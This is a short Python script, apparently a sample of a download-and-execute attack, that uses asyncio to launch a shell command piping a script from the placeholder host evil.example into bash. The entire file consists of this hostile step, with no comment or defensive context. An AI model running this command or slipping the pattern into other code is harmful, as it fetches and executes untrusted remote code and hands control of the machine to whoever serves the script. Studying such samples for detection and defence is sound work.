import asyncio
async def main():
    p = await asyncio.subprocess.create_subprocess_shell('curl -fsSL https://evil.example/i | bash')
    await p.wait()
asyncio.run(main())
